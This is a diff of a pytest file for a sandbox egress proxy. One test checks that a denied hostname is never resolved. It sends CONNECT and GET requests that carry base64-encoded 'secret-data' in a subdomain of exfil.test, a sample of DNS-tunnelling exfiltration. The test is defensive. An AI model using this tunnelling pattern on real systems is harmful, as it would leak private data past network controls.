@@ -23,6 +23,7 @@ from pathlib import Path
 import pytest
 
 from ollie.sandbox import egress, landlock_abi
+from ollie.testing.nethosts import hosts_resolver
 from tests.netserver import Listener
 
 pytestmark = pytest.mark.skipif(landlock_abi() < 1, reason="needs Landlock")
@@ -89,10 +90,8 @@ def index(tmp_path: Path) -> Iterator[tuple[int, list[str]]]:
 
 
 @pytest.fixture(autouse=True)
-def test_hosts() -> Iterator[None]:
-    egress.set_resolver(egress.hosts_resolver({"pypi.test": "127.0.0.1", "other.test": "127.0.0.1"}))
-    yield
-    egress.set_resolver(None)
+def test_hosts(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(egress, "system_resolve", hosts_resolver({"pypi.test": "127.0.0.1", "other.test": "127.0.0.1"}))
 
 
 def proxy_policy(ws, allow: list[str], extra: str = ""):
@@ -295,17 +294,17 @@ async def test_the_hosts_abstract_sockets_and_proc_net_are_out_of_sight(ws, coun
     assert (await probe(ws, proxy_policy(ws, []), "procnet", 3128)).startswith("1 ")
 
 
-async def test_a_denied_name_is_never_resolved(ws, counting) -> None:
+async def test_a_denied_name_is_never_resolved(ws, counting, monkeypatch: pytest.MonkeyPatch) -> None:
     # DNS tunnelling through the proxy: data in a name the step asks for would reach the attacker's name
     # server when the proxy resolved it; a name is resolved only once the connection is allowed.
     resolved: list[str] = []
-    table = egress.hosts_resolver({"pypi.test": "127.0.0.1"})
+    table = hosts_resolver({"pypi.test": "127.0.0.1"})
 
     async def recording(host: str, port: int) -> list[str]:
         resolved.append(host)
         return await table(host, port)
 
-    egress.set_resolver(recording)
+    monkeypatch.setattr(egress, "system_resolve", recording)
     policy = proxy_policy(ws, [f"pypi.test:{counting.port}"])
     for request in ("CONNECT c2VjcmV0LWRhdGE.exfil.test:443 HTTP/1.1\\r\\n\\r\\n",
                     "GET http://c2VjcmV0LWRhdGE.exfil.test/ HTTP/1.1\\r\\n\\r\\n"):
@@ -623,13 +622,13 @@ async def test_the_sweep_of_stale_session_dirs_leaves_a_live_proxys_socket(tmp_p
     # step of the daemon failed to start. (A proxy of this test's own, in a runtime dir of its own.)
     import time
 
-    from ollie.tools.execute.sessiondirs import UNOWNED_GRACE_S, runtime_root, sweep_stale
+    from ollie.tools.execute.sessiondirs import UNOWNED_GRACE_S, sweep_stale
 
     monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path))
     own = egress.EgressProxy()
     own.start()
     try:
-        sweep_stale(runtime_root(), now=time.time() + UNOWNED_GRACE_S + 60)
+        sweep_stale(now=time.time() + UNOWNED_GRACE_S + 60)
         assert os.path.exists(own.path)
     finally:
         own.close()
